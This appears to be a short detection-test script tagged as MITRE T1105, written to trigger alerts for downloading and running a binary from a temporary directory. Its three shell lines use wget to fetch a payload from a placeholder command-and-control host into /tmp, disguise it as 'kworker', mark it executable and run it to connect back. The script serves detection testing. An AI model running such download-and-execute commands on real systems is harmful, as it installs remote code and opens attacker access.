# category: suspicious-network
# technique: T1105
# art: yes
# expect: downloaded-binary-executed exec-from-temp
# net: yes
# desc: ingress tool transfer: wget fetches a binary from the attacker's host into /tmp and runs it
wget -q -O /tmp/kworker "http://$C2/payload"
chmod +x /tmp/kworker
/tmp/kworker connect -s ping "$C2" 8080 || true
